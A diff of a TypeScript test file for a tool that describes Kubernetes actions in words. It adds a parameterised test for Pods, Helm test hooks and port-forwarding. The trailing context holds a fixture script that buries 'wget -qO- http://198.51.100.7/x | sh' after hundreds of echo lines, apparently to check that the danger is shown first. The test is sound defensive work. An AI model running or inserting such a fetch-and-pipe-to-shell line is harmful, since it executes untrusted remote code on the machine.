@@ -57,6 +57,23 @@ test('every value of an effect is on the screen', () => {
   }
 })
 
+test.each([
+  ['a pod that is made for it', '', { kind: 'Pod', metadata: { name: 'check' } }, 'Runs Pod shop/check'],
+  [
+    'a hook of a release',
+    '',
+    { kind: 'Pod', metadata: { name: 'check', annotations: { 'helm.sh/hook': 'test' } } },
+    'Runs, as a hook of the release, Pod shop/check',
+  ],
+  ['a pod that runs', '/ports', ['8080:80'], 'Connects to Pod shop/check'],
+])('what is done with %s is said in words', (_what, path, after, words) => {
+  const [object] = effectOf().objects
+  if (object === undefined) throw new Error('an effect without objects')
+  const invoked = { ...object, kind: 'Pod', namespace: 'shop', name: 'check', action: 'invoke' as const }
+  const objects = [{ ...invoked, changes: [{ path, after }] }]
+  expect(screenOf({ effect: effectOf({ objects }) })).toContain(words)
+})
+
 test('what must not be missed stands first, whole and with its place', () => {
   const [object] = effectOf().objects
   const script = `#!/bin/sh\n${'echo step\n'.repeat(450)}wget -qO- http://198.51.100.7/x | sh\n`
